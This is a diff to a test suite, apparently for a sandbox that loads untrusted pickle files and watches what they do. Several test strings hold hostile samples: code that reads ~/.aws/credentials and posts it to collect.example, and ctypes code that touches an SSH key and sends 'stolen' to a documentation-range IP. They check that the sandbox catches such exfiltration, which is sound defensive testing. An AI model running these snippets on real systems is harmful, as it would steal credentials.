@@ -32,6 +32,15 @@ def level(request: pytest.FixtureRequest) -> Level:
     return found
 
 
+@pytest.fixture(params=["3", "2"])
+def watched(request: pytest.FixtureRequest) -> Level:
+    """Where the parent is told of calls."""
+    found = next(each for each in LADDER if each.id == request.param)
+    if missing(found):
+        pytest.skip(missing(found))
+    return found
+
+
 @pytest.fixture
 def two() -> Level:
     found = next(each for each in LADDER if each.id == "2")
@@ -63,7 +72,7 @@ def test_phases_follow_each_other_and_what_is_seen_has_its_phase(level: Level, t
     assert seen(found, "audit", "pickle.find_class")[0].about.endswith(".exec")
 
 
-def test_threads_run_and_calls_beyond_are_refused(level: Level, tmp_path: Path) -> None:
+def test_threads_run_and_calls_beyond_are_refused(watched: Level, tmp_path: Path) -> None:
     text = (
         "import ctypes, threading, errno\n"
         "said = []\n"
@@ -73,14 +82,14 @@ def test_threads_run_and_calls_beyond_are_refused(level: Level, tmp_path: Path) 
         "    libc.syscall(number, 0, 0, 0, 0); said.append(errno.errorcode[ctypes.get_errno()])\n"
         "print(said)\n"
     )
-    found = load(write_pickle(tmp_path, text), level)
+    found = load(write_pickle(tmp_path, text), watched)
     assert "['ran', 'ENOSYS', 'EPERM', 'EPERM', 'EPERM']" in found.output.decode() or os.uname().machine != "x86_64", (
         found.output
     )
     assert seen(found, "kernel", "io_uring_setup")[0].answer == "refused"
 
 
-def test_native_code_is_seen_by_the_kernel(level: Level, tmp_path: Path) -> None:
+def test_native_code_is_seen_by_the_kernel(watched: Level, tmp_path: Path) -> None:
     # Python is not asked: libc opens, and makes the socket
     text = (
         "import ctypes\nlibc = ctypes.CDLL(None)\n"
@@ -90,7 +99,7 @@ def test_native_code_is_seen_by_the_kernel(level: Level, tmp_path: Path) -> None
         "libc.connect(fd, b'\\x02\\0\\x01\\xbb\\xc6\\x33\\x64\\x07' + bytes(8), 16)\n"
         "libc.send(fd, b'stolen', 6, 0)\n"
     )
-    found = load(write_pickle(tmp_path, text), level)
+    found = load(write_pickle(tmp_path, text), watched)
     assert not seen(found, "audit", "socket.connect")
     assert "/home/somebody/.ssh/id_rsa" in {each.about for each in found.events if each.recorder == "kernel"}
     assert (
@@ -102,13 +111,13 @@ def test_native_code_is_seen_by_the_kernel(level: Level, tmp_path: Path) -> None
     assert [(each.about, each.detail) for each in sent] == [("tcp 198.51.100.7 443", "stolen")]
 
 
-def test_a_beacon_by_name_says_all_it_wanted_to_say(level: Level, tmp_path: Path) -> None:
+def test_a_beacon_by_name_says_all_it_wanted_to_say(watched: Level, tmp_path: Path) -> None:
     text = (
         "import os, urllib.request\n"
         "key = open(os.path.expanduser('~/.aws/credentials')).read()\n"
         "urllib.request.urlopen('http://collect.example/take', data=key.encode(), timeout=5).read()\n"
     )
-    found = load(write_pickle(tmp_path, text), level, decoys={".aws/credentials": "T0KEN"})
+    found = load(write_pickle(tmp_path, text), watched, decoys={".aws/credentials": "T0KEN"})
     assert found.phases[1].outcome == "completed", found.phases
     assert {each.about for each in seen(found, "network", "looked up")} == {"collect.example"}
     sent = seen(found, "network", "sent")[0]
@@ -149,7 +158,8 @@ def test_nothing_of_this_machine_is_reached(level: Level, tmp_path: Path) -> Non
     assert found.answered
     assert not marker.exists()
     assert b"mine" not in found.output
-    assert f"unix @openvet-{os.getpid()}" in {each.about for each in found.events}
+    if "kernel" in found.recorders:
+        assert f"unix @openvet-{os.getpid()}" in {each.about for each in found.events}
 
 
 def test_wall_time_is_a_limit_that_is_named(two: Level, tmp_path: Path) -> None:
@@ -226,16 +236,23 @@ def test_no_child_outlives_its_parent(how: str, level: Level, tmp_path: Path) ->
         f"level = next(each for each in LADDER if each.id == {level.id!r})\n"
         f"run({{'work': 'load', 'loader': 'pickle', 'path': {str(path)!r}, 'mark': {mark!r}}}, level, readable=[{str(path)!r}])\n"
     )
-    parent = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
+    parent = subprocess.Popen(
+        [sys.executable, "-c", code],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+        env={**os.environ, "TMPDIR": str(tmp_path)},
+    )
     assert parent.stdout is not None
     assert parent.stdout.readline() == b"begins\n"
-    children = _wait_for(lambda: [each for each in _below(parent.pid) if _is_python_child(each)], bool)
+    # the child alone, or what holds its namespaces or its kernel as well
+    wanted = 1 if level.id == "2" else 3
+    children = _wait_for(lambda: _below(parent.pid), lambda found: len(found) >= wanted)
     time.sleep(0.5)
     every = _below(parent.pid)
     parent.send_signal(signal.SIGKILL if how == "killed" else signal.SIGINT)
     parent.wait(20)
     parent.stdout.close()
-    assert children
+    assert len(children) >= wanted
     assert _wait_for(lambda: [each for each in every if _alive(each)], lambda left: not left) == []
 
 
@@ -263,13 +280,6 @@ def _below(pid: int) -> list[int]:
         found += more
         todo += more
     return found
-
-
-def _is_python_child(pid: int) -> bool:
-    try:
-        return b"openvet.sandbox.shim" in Path(f"/proc/{pid}/cmdline").read_bytes()
-    except OSError:
-        return False
 
 
 def _alive(pid: int) -> bool:
